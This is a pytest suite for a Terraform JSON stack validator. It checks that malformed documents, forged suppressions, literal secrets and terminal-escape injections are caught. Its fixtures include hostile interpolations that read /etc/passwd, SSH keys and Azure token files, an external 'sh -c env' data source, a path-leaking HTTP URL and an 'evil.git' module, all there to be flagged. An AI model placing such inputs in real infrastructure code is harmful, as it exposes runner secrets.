"""Validation cannot be bypassed or crashed by the stack it reads (issue 7).

Every shape Terraform's JSON syntax accepts is read (each case below was skipped or
crashed before); metadata and suppressions are untrusted; "literal or reference" is
decided by parsing the template; the reader is bounded; reports stay well-formed.
"""

from __future__ import annotations

import copy
import json
import os
import subprocess
import sys
from xml.etree import ElementTree as ET

import pytest
from conftest import PROFILES, ROOT
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from trainstack.catalog import load_facts
from trainstack.errors import TrainstackError
from trainstack.validate import load_stacks, validate
from trainstack.validate.model import Stack
from trainstack.validate.reader import StackError, parse_json
from trainstack.validate.report import to_json, to_junit, to_sarif, to_table

FACTS = load_facts()

KV = "azurerm_key_vault"


GOLDEN = ROOT / "tests" / "golden" / "stacks"


@pytest.fixture(scope="module")
def bundled() -> dict[str, dict]:
    """The stored stacks of the bundled profiles (tests/golden: no Node needed)."""
    return {p.stem: json.loads((GOLDEN / p.stem / "cdk.tf.json").read_text()) for p in PROFILES}


@pytest.fixture(scope="module")
def churn(bundled) -> dict:
    return bundled["churn"]


def findings(doc: dict, pack: str = "baseline") -> list[tuple[str, str, bool]]:
    report = validate([Stack.from_document("churn", "churn/cdk.tf.json", doc)], pack, FACTS)
    return [(f.rule, f.resource, f.suppressed) for f in report.findings]


def live(doc: dict) -> set[tuple[str, str]]:
    return {(rule, res) for rule, res, suppressed in findings(doc) if not suppressed}


def _weak_vault(doc: dict) -> dict:
    body = copy.deepcopy(doc["resource"][KV]["key_vault"])
    body["purge_protection_enabled"] = False
    return body


# -- every shape terraform reads -------------------------------------------------------------

def test_array_of_resources_per_type_is_read(churn):
    doc = copy.deepcopy(churn)
    doc["resource"][KV] = [{"key_vault": _weak_vault(churn)}]
    assert ("TS-SEC-004", f"{KV}.key_vault") in live(doc)


def test_resource_as_an_array_of_objects_is_read(churn):
    doc = copy.deepcopy(churn)
    weak = {KV: {"second": {**_weak_vault(churn), "name": "kv-second-x1"}}}
    doc["resource"] = [doc["resource"], weak]
    assert ("TS-SEC-004", f"{KV}.second") in live(doc)


def test_body_as_an_array_of_one_object_is_read(churn):
    doc = copy.deepcopy(churn)
    doc["resource"][KV]["key_vault"] = [_weak_vault(churn)]
    assert ("TS-SEC-004", f"{KV}.key_vault") in live(doc)


def test_a_key_given_twice_is_read_twice_as_terraform_does(churn):
    """Python's json keeps only the last "resource"; HCL reads both blocks."""
    doc = copy.deepcopy(churn)
    weak = json.dumps({KV: {"hidden": {**_weak_vault(churn), "name": "kv-hidden-x1"}}})
    text = json.dumps(doc)
    text = text[:-1] + f', "resource": {weak}' + "}"
    stack = Stack.from_document("churn", "x", parse_json(text, "x"))
    assert f"{KV}.hidden" in stack.resources and f"{KV}.key_vault" in stack.resources
    report = validate([stack], "baseline", FACTS)
    assert any(f.rule == "TS-SEC-004" and f.resource == f"{KV}.hidden" for f in report.findings)


@pytest.mark.parametrize(("mutate", "message"), [
    (lambda d: d.__setitem__("resource", 5),
     "churn/cdk.tf.json: resource: must be an object or an array of objects (got a number)"),
    (lambda d: d.__setitem__("resource", [1, 2]), "resource: must be an object or an array"),
    (lambda d: d.__setitem__("data", "x"), "data: must be an object or an array of objects"),
    (lambda d: d["resource"].__setitem__(KV, "x"), f"resource.{KV}: must be an object"),
    (lambda d: d["resource"][KV].__setitem__("key_vault", 7),
     f"resource.{KV}.key_vault: must be an object"),
    (lambda d: d["resource"][KV].__setitem__("key_vault", [{}, {}]),
     f"resource.{KV}.key_vault: 2 bodies for one address"),
    (lambda d: d["//"].__setitem__("trainstack", []),
     "//.trainstack: the trainstack metadata must be an object (got list)"),
])
def test_shapes_terraform_cannot_read_are_exit_2_naming_the_field(churn, mutate, message):
    doc = copy.deepcopy(churn)
    mutate(doc)
    with pytest.raises(StackError) as info:
        Stack.from_document("churn", "churn/cdk.tf.json", doc)
    assert message in str(info.value)


def test_one_address_in_two_shapes_is_refused(churn):
    doc = copy.deepcopy(churn)
    doc["resource"] = [doc["resource"], {KV: {"key_vault": _weak_vault(churn)}}]
    with pytest.raises(StackError, match="defined twice"):
        Stack.from_document("churn", "x", doc)


# -- metadata and suppressions ------------------------------------------------------------------

def test_deleting_the_metadata_is_a_finding_not_a_way_out(churn):
    doc = copy.deepcopy(churn)
    del doc["//"]["trainstack"]
    assert ("TS-META-001", "") in live(doc)
    doc["//"] = "just a comment"
    assert ("TS-META-001", "") in live(doc)


@pytest.mark.parametrize(("key", "value", "needs"), [
    ("network", None, "TS-SEC-011"), ("region", "atlantis", "TS-SKU-003"),
    ("estimated_monthly_usd", "cheap", "TS-COST-001"), ("monthly_budget_usd", -5, "TS-COST-001"),
    ("suppressions", {"rule": "TS-SEC-001"}, "every suppression"),
])
def test_malformed_metadata_names_the_rules_it_turns_off(churn, key, value, needs):
    doc = copy.deepcopy(churn)
    doc["//"]["trainstack"][key] = value
    report = validate([Stack.from_document("churn", "x", doc)], "baseline", FACTS)
    (meta,) = [f for f in report.findings if f.rule == "TS-META-002"]
    assert key in meta.message and needs in meta.message and report.failed


@pytest.mark.parametrize("key", ["network", "monthly_budget_usd", "region"])
def test_a_missing_metadata_field_is_a_finding(churn, key):
    """Deleting the budget must not silently turn off TS-COST-001 ("none" means no budget)."""
    doc = copy.deepcopy(churn)
    assert doc["//"]["trainstack"]["monthly_budget_usd"] == 2000
    del doc["//"]["trainstack"][key]
    assert ("TS-META-002", "") in live(doc)


@pytest.mark.parametrize("entry", [
    {"rule": "TS-SEC-004"},  # no reason
    {"rule": "TS-SEC-004", "reason": "short"},  # reason under 10 characters
    {"rule": "TS-SEC-004", "reason": "a long enough reason", "extra": 1},
    {"rule": "not-a-rule", "reason": "a long enough reason"},
    {"rule": "TS-SEC-004", "resource": "${file(\"/etc/passwd\")}", "reason": "a long reason"},
    "TS-SEC-004",
])
def test_a_hand_added_suppression_is_held_to_the_profile_rules(churn, entry):
    doc = copy.deepcopy(churn)
    doc["resource"][KV]["key_vault"]["purge_protection_enabled"] = False
    doc["//"]["trainstack"]["suppressions"] = [entry]
    result = live(doc)
    assert ("TS-SEC-004", f"{KV}.key_vault") in result  # not suppressed
    assert ("TS-META-003", "") in result


@pytest.mark.parametrize("rule", ["TS-META-001", "TS-META-003", "TS-ENGINE-001"])
def test_findings_about_validation_itself_cannot_be_suppressed(churn, rule):
    doc = copy.deepcopy(churn)
    doc["//"]["trainstack"]["suppressions"] = [{"rule": rule, "reason": "trust me, it is fine"}]
    assert ("TS-META-003", "") in live(doc)


def test_a_valid_hand_added_suppression_still_applies_with_its_reason(churn):
    doc = copy.deepcopy(churn)
    doc["resource"][KV]["key_vault"]["purge_protection_enabled"] = False
    doc["//"]["trainstack"]["suppressions"].append(
        {"rule": "TS-SEC-004", "resource": f"{KV}.key_vault", "reason": "sandbox, purged weekly"})
    assert ("TS-SEC-004", f"{KV}.key_vault", True) in findings(doc)


# -- literal or reference: parsed, not guessed ---------------------------------------------------

def _with_secret(doc: dict, value) -> dict:  # noqa: ANN001
    doc = copy.deepcopy(doc)
    doc["resource"]["azurerm_machine_learning_compute_cluster"]["training"]["ssh"] = {
        "admin_username": "azureuser", "admin_password": value}
    return doc


@pytest.mark.parametrize("value", ['hunter2${""}', "${\"hunter2\"}",
                                   '${base64decode("aHVudGVyMg==")}', "$${literally}",
                                   "hunter2 ${var.suffix}", 12345678])
def test_a_literal_secret_is_found_whatever_it_is_wrapped_in(churn, value):
    assert ("TS-SEC-013", "azurerm_machine_learning_compute_cluster.training") in \
        live(_with_secret(churn, value))


@pytest.mark.parametrize("value", ["${var.admin_password}", "${random_password.p.result}",
                                   "${data.azurerm_key_vault_secret.s.value}"])
def test_a_secret_reference_is_not_a_literal(churn, value):
    assert not any(rule == "TS-SEC-013" for rule, _ in live(_with_secret(churn, value)))


def test_an_escaped_reference_is_text_not_a_reference(churn):
    """`$${azurerm_machine_learning_workspace.workspace.id}` is the text, so the diagnostic
    setting targets nothing and the workspace has no logs (TS-SEC-008)."""
    doc = copy.deepcopy(churn)
    diag = doc["resource"]["azurerm_monitor_diagnostic_setting"]["workspace_diagnostics"]
    diag["target_resource_id"] = "$" + diag["target_resource_id"]
    assert ("TS-SEC-008", "azurerm_machine_learning_workspace.workspace") in live(doc)


# -- TS-SEC-014: what terraform would evaluate ---------------------------------------------------

@pytest.mark.parametrize(("where", "value", "address"), [
    ("resource.azurerm_key_vault.key_vault.tags.owner", '${file("/etc/passwd")}',
     "azurerm_key_vault.key_vault"),
    ("resource.azurerm_key_vault.key_vault.tags.owner", "${azurerm_key_vault.key_vault.id}",
     "azurerm_key_vault.key_vault"),  # a reference, but into text trainstack writes literally
    ("resource.azurerm_key_vault.key_vault.sku_name", "%{ if true }standard%{ endif }",
     "azurerm_key_vault.key_vault"),
    ("resource.azurerm_key_vault.key_vault.tenant_id", "${var.tenant}",
     "azurerm_key_vault.key_vault"),
    ("resource.azurerm_key_vault.key_vault.tenant_id", "${unclosed",
     "azurerm_key_vault.key_vault"),
    ("output.resource_group_name.value", '${templatefile("/etc/shadow", {})}',
     "output.resource_group_name"),
    ("provider.azurerm.subscription_id", "${path.cwd}", "provider.azurerm"),
    ("locals.x", "${file(\"~/.azure/accessTokens.json\")}", "locals"),
])
def test_interpolations_trainstack_never_writes_are_flagged(churn, where, value, address):
    doc = copy.deepcopy(churn)
    node = doc
    *parents, last = where.split(".")
    for key in parents:
        node = node.setdefault(key, {})
        if isinstance(node, list):
            node = node[0]
    node[last] = value
    assert ("TS-SEC-014", address) in live(doc)


@pytest.mark.parametrize("where", ["tags", "output", "locals"])
def test_a_comment_key_inside_a_value_is_evaluated_so_it_is_checked(churn, where):
    """Terraform ignores "//" only directly in a block body: in a map (tags), an output's
    value or a local it is an ordinary key, and its value is evaluated (a real plan of
    `"input": {"//": "${file(...)}"}` prints the file)."""
    doc = copy.deepcopy(churn)
    payload = {"//": '${file("/home/runner/.ssh/id_rsa")}'}
    if where == "tags":
        doc["resource"][KV]["key_vault"]["tags"] = payload
    elif where == "output":
        doc["output"]["resource_group_name"]["value"] = payload
    else:
        doc["locals"] = {"x": payload}
    assert any(rule == "TS-SEC-014" for rule, _ in live(doc))
    doc = _with_secret(doc, {"//": "hunter2"})
    doc["resource"]["azurerm_machine_learning_compute_cluster"]["training"]["ssh"] = {
        "admin_password": {"//": "x"}, "//": {"admin_password": "hunter2"}}
    assert ("TS-SEC-013", "azurerm_machine_learning_compute_cluster.training") in live(doc)


def test_the_bundled_stacks_interpolate_only_references(churn):
    assert not any(rule == "TS-SEC-014" for rule, _ in live(churn))


# -- reader limits ---------------------------------------------------------------------------

@pytest.mark.parametrize(("text", "message"), [
    ('{"a": NaN}', "NaN is not a JSON number"),
    ('{"a": -Infinity}', "-Infinity is not a JSON number"),
    ('{"a": 1e400}', "the number 1e400 is out of range"),
    ('{"a": ' + "9" * 5000 + "}", "a number of 5,000 digits is too large"),
    ('{"a": ' + "[" * 100_000 + "]" * 100_000 + "}", "nests too deeply"),
    ('{"a": ' + "[" * 70 + "]" * 70 + "}", "nests deeper than 64 levels"),
    ('{"a": 1, "a": 2}', "the key 'a' is given twice in one object"),
    ("[1, 2]", "not a Terraform JSON object (got an array)"),
    ("{", "not JSON"),
])
def test_unreadable_stacks_are_exit_2_with_the_reason(tmp_path, text, message):
    (tmp_path / "stacks" / "s").mkdir(parents=True)
    (tmp_path / "stacks" / "s" / "cdk.tf.json").write_text(text)
    with pytest.raises(TrainstackError) as info:
        load_stacks(tmp_path)
    assert message in str(info.value)


def test_a_fifo_stack_is_refused_not_waited_on(tmp_path):
    (tmp_path / "stacks" / "s").mkdir(parents=True)
    os.mkfifo(tmp_path / "stacks" / "s" / "cdk.tf.json")
    with pytest.raises(TrainstackError, match="must be a regular file, not a FIFO"):
        load_stacks(tmp_path)


@pytest.mark.parametrize("kind", ["dangling", "looping"])
def test_a_broken_stack_symlink_is_an_error_not_a_skip(tmp_path, churn, kind):
    stacks = tmp_path / "stacks"
    (stacks / "churn").mkdir(parents=True)
    (stacks / "churn" / "cdk.tf.json").write_text(json.dumps(churn))
    link = stacks / "other"
    link.symlink_to(stacks / "nowhere" if kind == "dangling" else link)
    with pytest.raises(TrainstackError, match="a symbolic link to nothing"):
        load_stacks(tmp_path)


def test_a_broken_stack_file_symlink_is_an_error(tmp_path):
    (tmp_path / "stacks" / "s").mkdir(parents=True)
    (tmp_path / "stacks" / "s" / "cdk.tf.json").symlink_to(tmp_path / "nowhere.json")
    with pytest.raises(TrainstackError, match="dangling symbolic link"):
        load_stacks(tmp_path)


def test_an_oversized_stack_is_refused(tmp_path, monkeypatch):
    import trainstack.validate.reader as reader

    monkeypatch.setattr(reader, "STACK_MAX_BYTES", 1000)
    (tmp_path / "stacks" / "s").mkdir(parents=True)
    (tmp_path / "stacks" / "s" / "cdk.tf.json").write_text("{" + " " * 2000 + "}")
    with pytest.raises(TrainstackError, match="over the limit of 1,000 bytes"):
        load_stacks(tmp_path)


# -- reports --------------------------------------------------------------------------------------

def test_control_characters_in_names_keep_every_report_well_formed(churn):
    doc = copy.deepcopy(churn)
    weak = _weak_vault(churn)
    doc["resource"][KV] = {"kv\x01\x1b[31m\ud800": weak}
    report = validate([Stack.from_document("churn", "x", doc)], "baseline", FACTS)
    assert any(f.rule == "TS-SEC-004" for f in report.findings)
    ET.fromstring(to_junit(report).encode())  # well-formed XML 1.0
    json.loads(to_json(report))
    json.loads(to_sarif(report))
    assert "\x1b" not in to_table(report) and "\x01" not in to_table(report)


def test_the_real_process_prints_no_raw_escape_and_exits_1(tmp_path, churn):
    doc = copy.deepcopy(churn)
    doc["resource"][KV] = {"kv\x1b]0;pwned\x07\x1b[2J": _weak_vault(churn)}
    (tmp_path / "stacks" / "churn").mkdir(parents=True)
    (tmp_path / "stacks" / "churn" / "cdk.tf.json").write_text(json.dumps(doc))
    for fmt in ("table", "junit"):
        done = subprocess.run([sys.executable, "-m", "trainstack", "validate", str(tmp_path),
                               "-f", fmt], capture_output=True, text=True, cwd=ROOT, timeout=120)
        assert done.returncode == 1, done.stderr
        assert "\x1b" not in done.stdout + done.stderr and "\x07" not in done.stdout
        assert "Traceback" not in done.stderr


@pytest.mark.parametrize("text", ['{"resource": 5}', '{"a": NaN}', "[1]"])
def test_the_real_process_exits_2_on_unreadable_stacks(tmp_path, text):
    (tmp_path / "stacks" / "s").mkdir(parents=True)
    (tmp_path / "stacks" / "s" / "cdk.tf.json").write_text(text)
    done = subprocess.run([sys.executable, "-m", "trainstack", "validate", str(tmp_path)],
                          capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert "stacks/s/cdk.tf.json" in done.stderr


# -- fuzz ------------------------------------------------------------------------------------

_leaf = st.one_of(st.none(), st.booleans(), st.integers(min_value=-(2**70), max_value=2**70),
                  st.floats(allow_nan=False, allow_infinity=False),
                  st.text(max_size=20),
                  st.sampled_from(["${", "%{", "$${x}", "${azurerm_key_vault.key_vault.id}",
                                   "${file(\"/etc/passwd\")}", "TS-SEC-004", "private",
                                   "Standard_NC6s_v3", "westeurope", "\x1b[31m"]))
_json = st.recursive(_leaf, lambda kids: st.one_of(
    st.lists(kids, max_size=3), st.dictionaries(st.text(max_size=8), kids, max_size=3)),
    max_leaves=12)


def _paths(value, prefix=()):  # noqa: ANN001, ANN202
    yield prefix
    if isinstance(value, dict):
        for k, v in value.items():
            yield from _paths(v, (*prefix, k))
    elif isinstance(value, list):
        for i, v in enumerate(value):
            yield from _paths(v, (*prefix, i))


@settings(max_examples=int(os.environ.get("FUZZ_EXAMPLES", 200)), deadline=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(st.data())
def test_fuzz_validate_reads_any_document_without_crashing(bundled, data):
    """Replace any part of a real stack with any JSON value: validation either reads it
    (no rule crashes: no TS-ENGINE-001) or refuses it as unreadable (exit 2)."""
    doc = copy.deepcopy(bundled[data.draw(st.sampled_from(sorted(bundled)))])
    paths = list(_paths(doc))
    target = data.draw(st.sampled_from(paths[1:]))
    value = data.draw(_json)
    node = doc
    for key in target[:-1]:
        node = node[key]
    node[target[-1]] = value
    text = json.dumps(doc)
    try:
        stack = Stack.from_document("churn", "x", parse_json(text, "x"))
    except StackError:
        return
    for pack in ("baseline", "strict"):
        report = validate([stack], pack, FACTS)
        crashed = [f.message for f in report.findings if f.rule == "TS-ENGINE-001"]
        assert crashed == []
        ET.fromstring(to_junit(report).encode())
        json.loads(to_sarif(report))


def _argument_paths(value, prefix=()):  # noqa: ANN001, ANN202
    if isinstance(value, dict):
        for key, item in value.items():
            if key != "//":
                yield (*prefix, key)
                yield from _argument_paths(item, (*prefix, key))
    elif isinstance(value, list):
        for i, item in enumerate(value):
            yield (*prefix, i)
            yield from _argument_paths(item, (*prefix, i))


CONFUSING = [None, [], {}, "x", 1.5, True, "${var.x}", [[]], -1, "$${x}"]


def test_every_argument_of_every_bundled_stack_survives_type_confusion(bundled):
    """Deterministic sweep: each distinct argument path of each resource type, set to each
    value of the wrong type; no rule may crash (a TS-ENGINE-001 finding)."""
    seen, crashed = set(), []
    for name, doc in sorted(bundled.items()):
        for kind in ("resource", "data"):
            for rtype, items in doc.get(kind, {}).items():
                for local, body in items.items():
                    for path in _argument_paths(body):
                        key = (rtype, tuple(p if isinstance(p, str) else 0 for p in path))
                        if key in seen:
                            continue
                        seen.add(key)
                        for value in CONFUSING:
                            mutated = copy.deepcopy(doc)
                            node = mutated[kind][rtype][local]
                            for step in path[:-1]:
                                node = node[step]
                            node[path[-1]] = value
                            report = validate([Stack.from_document(name, "x", mutated)], "baseline",
                                              FACTS)
                            crashed += [(rtype, path, value, f.message) for f in report.findings
                                        if f.rule == "TS-ENGINE-001"]
    assert len(seen) > 250
    assert crashed == []


# -- every file terraform reads in a stack folder ---------------------------------------------

def _folder(tmp_path, churn, **files):  # noqa: ANN001, ANN003, ANN202
    folder = tmp_path / "stacks" / "churn"
    folder.mkdir(parents=True)
    (folder / "cdk.tf.json").write_text(json.dumps(churn))
    for name, content in files.items():
        (folder / name.replace("__", ".")).write_text(
            content if isinstance(content, str) else json.dumps(content))
    return tmp_path


def _live_of(directory) -> set[tuple[str, str]]:  # noqa: ANN001
    report = validate(load_stacks(directory), "baseline", FACTS)
    return {(f.rule, f.resource) for f in report.findings if not f.suppressed}


def test_a_hidden_stack_folder_is_validated_too(tmp_path, churn):
    doc = copy.deepcopy(churn)
    doc["resource"][KV]["key_vault"]["purge_protection_enabled"] = False
    (tmp_path / "stacks" / ".evil").mkdir(parents=True)
    (tmp_path / "stacks" / ".evil" / "cdk.tf.json").write_text(json.dumps(doc))
    assert ("TS-SEC-004", f"{KV}.key_vault") in _live_of(tmp_path)


def test_an_additional_tf_json_file_is_read_with_the_stack(tmp_path, churn):
    extra = {"resource": {KV: {"extra": {**_weak_vault(churn), "name": "kv-extra-x1"}}},
             "output": {"leak": {"value": '${file("/etc/passwd")}'}}}
    live_findings = _live_of(_folder(tmp_path, churn, extra__tf__json=extra))
    assert ("TS-SEC-004", f"{KV}.extra") in live_findings
    assert ("TS-SEC-014", "output.leak") in live_findings


def test_an_override_file_is_merged_as_terraform_merges_it(tmp_path, churn):
    override = {"resource": {"azurerm_machine_learning_workspace": {"workspace": {
        "public_network_access_enabled": True,
        "description": '${file("/home/runner/.ssh/id_rsa")}'}}}}
    live_findings = _live_of(_folder(tmp_path, churn, override__tf__json=override))
    assert ("TS-SEC-014", "azurerm_machine_learning_workspace.workspace") in live_findings


def test_an_override_of_nothing_is_refused_as_terraform_refuses_it(tmp_path, churn):
    override = {"resource": {KV: {"missing": {"sku_name": "premium"}}}}
    with pytest.raises(StackError, match="overrides nothing"):
        load_stacks(_folder(tmp_path, churn, x_override__tf__json=override))


def test_a_duplicate_across_files_is_refused(tmp_path, churn):
    extra = {"resource": {KV: {"key_vault": _weak_vault(churn)}}}
    with pytest.raises(StackError, match="defined twice"):
        load_stacks(_folder(tmp_path, churn, extra__tf__json=extra))


def test_an_hcl_file_in_a_stack_folder_is_an_unsuppressible_finding(tmp_path, churn):
    doc = copy.deepcopy(churn)
    doc["//"]["trainstack"]["suppressions"].append(
        {"rule": "TS-META-004", "reason": "we know what we are doing"})
    directory = _folder(tmp_path, doc, main__tf='resource "terraform_data" "x" {}\n')
    assert ("TS-META-004", "") in _live_of(directory)


@pytest.mark.parametrize(("kind", "body", "address"), [
    ("data", {"external": {"x": {"program": ["sh", "-c", "env"]}}}, "data.external.x"),
    ("data", {"http": {"x": {"url": "https://example.org/?q=${path.cwd}"}}}, "data.http.x"),
    ("resource", {"terraform_data": {"x": {"provisioner": {"local-exec": {"command": "id"}}}}},
     "terraform_data.x"),
    ("module", {"m": {"source": "git::https://example.org/evil.git"}}, "module.m"),
])
def test_code_that_would_run_on_the_runner_is_flagged(churn, kind, body, address):
    doc = copy.deepcopy(churn)
    if kind == "module":
        doc["module"] = body
    else:
        for rtype, items in body.items():
            doc.setdefault(kind, {}).setdefault(rtype, {}).update(items)
    assert ("TS-SEC-015", address) in live(doc)
